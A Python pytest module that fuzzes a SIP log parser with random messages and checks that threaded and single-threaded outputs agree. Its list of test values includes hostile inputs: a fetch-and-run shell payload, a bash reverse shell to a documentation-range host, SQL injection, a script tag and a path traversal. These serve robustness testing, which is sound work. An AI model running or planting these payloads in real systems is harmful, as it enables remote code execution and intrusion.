"""Events that the core puts into columns at once are those of the records that it would have written."""

from __future__ import annotations

import random

import pytest

from sipsieve._core import Messages, event_columns
from sipsieve_analysis.readers.replayed import Replay

#: What stands in a value: ordinary, to be escaped, cut or left out, of any length, hostile, and with what it points at.
_VALUES = (
    b"alice", b"100", b"Example/1.0", b"user=phone;x", b"", b" ", b"a\"b", b"a\\b", b"caf\xc3\xa9", b"\xff\xfe", b"\x01", b"\x7f",
    b"nonce=abc", b"x;response=\"1\"", b"unknown.invalid", b"friendly-scanner", b"EagleSIP",
    b"UPDATE users SET password='1' WHERE username='admin'", b"1' OR '1'='1", b"$(curl http://203.0.113.9/x.sh|sh)",
    b"bash -i >& /dev/tcp/192.0.2.195:3456 0>&1", b"<script>alert(1)</script>", b"../../etc/passwd", b"%27%20or%201=1",
    b"y" * 31, b"y" * 33, b"y" * 200, b"y" * 255, b"y" * 256, b"y" * 257, b"y" * 700, b"z" * 2000,
)  # fmt: skip

_TIMES = (0.0, -1.0, 1_794_787_200.0, 1_794_787_200.999_999_9, 1_794_787_200.000_000_4, 31_999_999_999.0, 32_503_680_001.0, 1e300, float("nan"))  # fmt: skip

_SOURCES = (("192.0.2.7", 5060, "udp"), ("2001:db8::7", 5071, "tls"), ("", 0, "udp"), ("203.0.113.9", 65535, "ws"))


def _message(rng: random.Random, source: tuple[str, int, str]) -> bytes:
    def value() -> bytes:
        return rng.choice(_VALUES) if rng.random() < 0.35 else rng.choice(_VALUES[:4])

    method = rng.choice([b"INVITE", b"REGISTER", b"OPTIONS", b"BYE", b"ACK", b"x" * 40, b"IN\xffVITE"])
    first = method + b" sip:" + value() + b"@example.com SIP/2.0"
    if rng.random() < 0.2:
        first = b"SIP/2.0 " + rng.choice([b"200 OK", b"401 Unauthorized", b"000 x", b"999999 x", b"486 " + value()])
    lines = [
        first, b"Via: SIP/2.0/UDP 192.0.2.7:5060;branch=z9hG4bK" + value(), b"Max-Forwards: 70",
        b'From: "' + value() + b'" <sip:' + value() + b"@example.com>;tag=" + value(), b"t: <sip:" + value() + b"@example.com>",
        b"i: " + value() + b"@" + source[0].encode(), b"CSeq: " + rng.choice([b"1", b"0007", b"4294967295123", b"x"]) + b" " + method,
    ]  # fmt: skip
    lines += [
        name + b": " + value() for name in (b"User-Agent", b"Server", b"Contact", b"Subject") if rng.random() < 0.6
    ]
    if rng.random() < 0.2:
        lines.append(b'Authorization: Digest username="' + value() + b'", nonce="1", response="2"')
    if rng.random() < 0.1:
        del lines[rng.randrange(1, len(lines))]
    body = b"v=0\r\n" if rng.random() < 0.5 else b""
    return b"\r\n".join([*lines, b"Content-Length: %d" % len(body), b"", body])


def _told(rng: random.Random) -> Messages:
    items = []
    for _ in range(rng.randrange(1, 80)):
        source, time = rng.choice(_SOURCES), rng.choice(_TIMES[2:5] if rng.random() < 0.9 else _TIMES)
        headers = [
            (name, rng.choice(_VALUES))
            for name in ("from", "to", "user-agent", "call-id", "subject")
            if rng.random() < 0.5
        ]
        quoted = rng.random() < 0.4
        items.append((
            time, source, (b"REGISTER", b"sip:" + rng.choice(_VALUES), rng.choice(_VALUES), b"1"), headers if quoted else [],
            b"" if quoted else _message(rng, source), rng.choice([0, 0, 0, 200, 403]) if quoted else 0, rng.random() < 0.1,
            ("fail2ban", rng.choice(_VALUES)) if rng.random() < 0.05 else None,
        ))  # fmt: skip
    return Messages.told(items)


@pytest.mark.parametrize("seed", range(8))
def test_columns_hold_what_the_written_records_do(seed: int) -> None:
    rng = random.Random(seed)
    at_once, written = Replay(threads=2), Replay(threads=1)
    rows = left = found = 0
    for _ in range(40):
        told = _told(rng)
        columns = at_once.columns(told, "raw log")
        assert columns == event_columns(written.records(told), "raw log")
        rows += columns[0]
        found += columns[2][1]
        left += columns[3].count(b"\n")
    # Of each kind there are some.
    assert rows > 1000 and found > 200 and left > 0


def test_a_copy_of_the_message_in_each_record_changes_no_column() -> None:
    told = _told(random.Random(99))
    # What is odd is handed on as it is, with the copy.
    assert Replay(1, raw_bytes=600).columns(told, "pcap")[:3] == Replay(1).columns(told, "pcap")[:3]
